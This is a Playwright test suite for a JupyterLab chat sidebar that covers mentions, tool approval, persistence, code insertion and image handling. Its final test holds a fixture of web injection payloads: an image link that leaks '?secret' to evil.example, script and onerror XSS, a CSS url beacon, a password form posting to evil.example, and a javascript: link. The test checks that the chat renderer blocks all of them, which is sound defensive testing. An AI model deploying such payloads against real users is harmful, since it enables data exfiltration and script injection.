"""The chat in JupyterLab's sidebar: what goes along, tools that ask, what outlives the page."""

import json
import re

from playwright.sync_api import expect

from tests.browser.pages import axe, execute, press, run_cell, set_theme
from tests.browser.test_chat_panel import GIVE_IMAGE
from tests.notebook.jupyter import wait_for

ACTIVE = "(window.jupyterapp ?? window.jupyterlab).shell.currentWidget"
CODE = """import mlx_notebook
import pandas as pd
@mlx_notebook.tool
def add(a: int, b: int) -> int:
    "Add two numbers."
    return a + b
df = pd.DataFrame({"city": ["Oslo", "Bergen"], "degrees": [3.5, 7.25]})"""
# How long an answer may take where many tests run, in milliseconds.
PATIENCE = 90_000
# The id of tiny-chat's token <think>.
THINK = 2026
FIGURES = re.compile(r"^(The answer .* · )?\d+ tokens?(, [\d,]+ tokens/s)?$")


def chat_of(page):
    execute(page, "mlx-notebook:open-chat")
    chat = page.get_by_role("region", name="Chat", exact=True)
    message = chat.get_by_role("textbox", name="Message")
    expect(message).to_be_focused()
    return chat, message


def source(page, at):
    return page.evaluate(f"at => {ACTIVE}.content.widgets[at].model.sharedModel.getSource()", at)


def prompt_of_last_chat(lab):
    traces = lab.request("mlx/traces")["data"]
    chats = [trace for trace in traces if trace["endpoint"].endswith("/chat/completions")]
    return lab.request(f"mlx/traces/{chats[0]['id']}")["prompt"]


def kept_answer(folder):
    """The first answer in a folder of conversations; empty as long as it is not complete."""
    # While Jupyter writes a file, the one before has a name with a dot at its front.
    [file] = folder.glob("[!.]*.json")
    try:
        messages = json.loads(file.read_text())["content"]["entries"]["2"]["messages"]
    except json.JSONDecodeError:
        return ""
    return messages[0]["content"] if messages else ""


def reload(page):
    page.reload()
    page.locator(".jp-Notebook .jp-CodeCell").first.wait_for(timeout=60_000)
    return chat_of(page)


def test_a_question_with_a_table_and_a_tool_outlives_the_page_and_the_kernel(browser, lab):
    lab.settings(model="tiny-chat")
    lab.request("mlx/models/load", {"model": "tiny-chat"})
    lab.notebook("sidebar.ipynb", CODE, "values = [1, 2]")
    (lab.home / "readme-first.txt").write_text("The boat leaves at noon.")
    page = browser.open("sidebar.ipynb")
    run_cell(page)
    chat, message = chat_of(page)
    browser.screenshot(page, "lab-chat-empty")
    expect(chat.get_by_text(re.compile("about .* of 3,000 tokens"))).to_be_visible()
    for chip in ("This cell", "Tools"):
        chat.get_by_role("button", name=chip, exact=True).press("Enter")
    expect(chat.get_by_text("Goes along: nothing")).to_be_visible()
    # A variable is chosen with the keyboard alone.
    message.focus()
    page.keyboard.type("What is in @d")
    listed = chat.get_by_role("listbox", name="Variables and files")
    expect(listed.get_by_role("option", selected=True)).to_contain_text("df")
    browser.screenshot(page, "lab-chat-mention")
    page.keyboard.press("Tab")
    expect(chat.get_by_text(re.compile(r"@df \(\d+ tokens\)"))).to_be_visible()
    expect(message).to_have_value("What is in @df ")
    browser.screenshot(page, "lab-chat-mentioned")
    page.keyboard.press("Enter")
    expect(chat.get_by_text(FIGURES)).to_have_count(1, timeout=PATIENCE)
    assert "columns: city (" in prompt_of_last_chat(lab)
    expect(chat.get_by_text("With @df")).to_be_visible()
    # So is a file. It goes along, however quickly it is sent.
    press(chat, "New conversation")
    message.focus()
    page.keyboard.type("When, says @readme-f")
    expect(listed.get_by_role("option", selected=True)).to_contain_text("readme-first.txt")
    page.keyboard.press("Tab")
    expect(message).to_have_value("When, says @readme-first.txt ")
    page.keyboard.press("Enter")
    expect(chat.get_by_text(FIGURES)).to_have_count(1, timeout=PATIENCE)
    assert "The boat leaves at noon." in prompt_of_last_chat(lab)
    # A tool of the kernel is called after it was allowed, in the text's place.
    press(chat, "New conversation")
    press(chat, "Tools")
    message.fill("What is 17 plus 25?")
    message.press("Enter")
    question = chat.get_by_role("group", name="Tool approval")
    expect(question.get_by_text("add(a=17, b=25)")).to_be_visible(timeout=PATIENCE)
    expect(message).to_be_focused()
    browser.screenshot(page, "lab-chat-approval")
    allow = question.get_by_role("button", name="Allow", exact=True)
    expect(allow).not_to_be_disabled()
    allow.press("Enter")
    expect(chat.get_by_text("add(a=17, b=25) – done")).to_be_visible()
    expect(chat.get_by_text(FIGURES)).to_have_count(1, timeout=PATIENCE)
    assert axe(page, ".mlx-lab-chat") == []
    # It is found again after a reload, and the kernel's restart changes nothing in it.
    page.evaluate(f"() => {ACTIVE}.context.sessionContext.session.kernel.restart()")
    chat, message = reload(page)
    expect(chat.get_by_text("add(a=17, b=25) – done")).to_be_visible()
    conversations = chat.get_by_role("combobox", name="Conversation")
    # Those about other notebooks are listed too.
    for title in ("What is 17 plus 25?", "What is in @df"):
        expect(conversations.get_by_role("option", name=title, exact=True)).to_have_count(1)
    conversations.select_option("What is in @df")
    expect(chat.get_by_text("With @df")).to_be_visible()
    press(chat, "Rename this conversation")
    page.get_by_role("dialog").get_by_role("textbox").fill("The table")
    page.keyboard.press("Enter")
    expect(conversations.get_by_role("option", name="The table")).to_be_attached()
    # A fork goes on by itself, and a deleted conversation is gone.
    press(chat, "Fork: go on from here in another conversation")
    expect(conversations.locator("option:checked")).to_have_text("The table (fork)")
    press(chat, "Edit this message")
    expect(message).to_have_value("What is in @df ")
    press(chat, "Cancel editing")
    press(chat, "Delete this conversation")
    press(page.get_by_role("dialog"), "Delete")
    expect(conversations.get_by_role("option", name="The table (fork)")).to_have_count(0)
    kept = lab.request("mlx/conversations?notebook=sidebar.ipynb")["data"]
    titles = {one["title"] for one in kept}
    assert titles == {"The table", "When, says @readme-first.txt", "What is 17 plus 25?"}


def test_an_answer_goes_on_after_a_reload_and_its_code_goes_into_the_notebook(browser, lab):
    lab.settings(model="tiny-chat", conversations="beside")
    lab.notebook("reload.ipynb", "values = [1, 2]")
    page = browser.open("reload.ipynb")
    bodies = []

    def lengthen(route):
        body = route.request.post_data_json
        bodies.append(body)
        # The model writes on where it would end, until somebody stops it, and does not think.
        limit = 4000 if len(bodies) == 1 else 12
        longer = {"ignore_eos": True, "max_tokens": limit, "logit_bias": {THINK: -100}}
        route.continue_(post_data=json.dumps(body | longer))

    page.route(re.compile("/v1/chat/completions"), lengthen)
    chat, message = chat_of(page)
    message.fill("Tell me a story")
    message.press("Enter")
    answer = chat.locator(".mlx-markdown").last
    expect(answer).to_have_text(re.compile(r"\w+ \w+ \w+"), timeout=PATIENCE)
    browser.screenshot(page, "lab-chat-writing")
    chat, message = reload(page)
    expect(chat.locator(".mlx-user:not([hidden])")).to_contain_text("Tell me a story")
    expect(chat.get_by_text(FIGURES)).to_have_count(1, timeout=PATIENCE)
    continued = bodies[1]["messages"][-1]
    assert bodies[1]["continue_final_message"] is True
    assert continued["role"] == "assistant"
    assert continued["content"]
    # It has reached its longest length again, and goes on in its place.
    shown = chat.locator(".mlx-markdown").last
    expect(shown).to_contain_text(continued["content"].split()[-1])
    short = shown.inner_text()
    press(chat, "Continue the answer")
    expect(shown).not_to_have_text(short, timeout=PATIENCE)
    expect(chat.get_by_text(FIGURES)).to_have_count(1, timeout=PATIENCE)
    assert bodies[2]["continue_final_message"] is True
    # The whole answer is in the folder beside the notebook.
    wait_for(lambda: continued["content"] in kept_answer(lab.home / "reload.chats"))
    # What it writes, the notebook takes.
    page.unroute(re.compile("/v1/chat/completions"))
    answer_with(page, "Here:\n\n```python\nprint(6 * 7)\n```\n\nSo $x^2$ it is.")
    message.fill("Multiply")
    press(chat, "Send")
    press(chat, "Insert the code below this cell")
    expect(chat.get_by_text("Inserted below.")).to_be_visible()
    assert source(page, 1) == "print(6 * 7)"
    expect(chat.locator("mjx-container, .MathJax").first).to_be_visible()
    page.locator(".jp-CodeCell").first.locator(".cm-content").click()
    press(chat, "Replace this cell by the code, after a look at the changes")
    press(page.get_by_role("region", name="Replace the Cell"), "Keep")
    assert source(page, 0) == "print(6 * 7)"
    press(chat, "Run the code in a new cell below this one")
    expect(page.locator(".jp-OutputArea-output").first).to_have_text("42")
    # An image is pasted; the model that was chosen sees none, which is told before it is asked.
    page.evaluate(GIVE_IMAGE, "pasted")
    message.focus()
    page.keyboard.press("Control+v")
    expect(chat.get_by_text("tiny-chat does not accept images")).to_be_visible()
    press(chat, "Remove image.png")
    expect(chat.get_by_text("tiny-chat does not accept images")).to_be_hidden()
    page.evaluate(GIVE_IMAGE, "dropped")
    dropped = page.evaluate_handle("window.dragged")
    message.dispatch_event("drop", {"dataTransfer": dropped})
    expect(chat.get_by_role("img", name="dropped.png")).to_be_visible()
    expect(chat.get_by_text("tiny-chat does not accept images")).to_be_visible()
    browser.screenshot(page, "lab-chat")
    set_theme(page, "dark")
    expect(page.locator("#jupyterlab-splash")).to_have_count(0)
    browser.screenshot(page, "lab-chat-dark")
    assert axe(page, ".mlx-lab-chat") == []
    page.set_viewport_size({"width": 400, "height": 800})
    browser.screenshot(page, "lab-chat-narrow")
    page.emulate_media(forced_colors="active")
    browser.screenshot(page, "lab-chat-contrast")


def answer_with(page, text):
    """Have the page get this answer, whatever a model would write."""
    chunk = {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": "stop"}]}
    body = f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n"
    page.route(
        re.compile("/v1/chat/completions"),
        lambda route: route.fulfill(content_type="text/event-stream", body=body),
    )


HOSTILE = """A picture ![of you](https://evil.example/pixel.png?secret) and
<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>
<div style="background: url(https://evil.example/style.png)">text</div>
<form action="https://evil.example/"><input name="password"></form>
[here](javascript:window.hacked=1)
"""


def test_what_a_model_writes_loads_nothing_and_runs_nothing(browser, lab):
    lab.notebook("hostile.ipynb", "1")
    page = browser.open("hostile.ipynb")
    answer_with(page, HOSTILE)
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    chat, message = chat_of(page)
    # A mention that is written to its end goes along too.
    message.fill("Hello @hostile.ipynb!")
    press(chat, "Send")
    expect(chat.get_by_text("With @hostile.ipynb, This cell")).to_be_visible()
    link = chat.get_by_role("link", name="of you")
    expect(link).to_have_attribute("href", "https://evil.example/pixel.png?secret")
    assert not [url for url in asked if "evil.example" in url]
    assert page.evaluate("window.hacked") is None
    answer = chat.locator(".mlx-markdown")
    expect(answer).to_contain_text("<script>window.hacked = 1</script>")
    assert answer.locator("img, form, input, script, [style*=url]").count() == 0
    assert chat.locator("a[href^=javascript]").count() == 0
